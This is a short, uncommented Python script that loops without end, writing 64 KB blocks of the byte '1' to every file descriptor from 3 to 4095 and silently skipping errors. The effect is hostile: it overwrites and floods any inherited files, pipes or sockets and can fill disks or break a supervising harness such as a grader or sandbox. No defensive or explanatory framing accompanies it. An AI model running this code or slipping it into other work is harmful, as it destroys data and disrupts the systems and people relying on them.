import os

while True:
    for number in range(3, 4096):
        try:
            os.write(number, b"1" * 65536)
        except OSError:
            continue
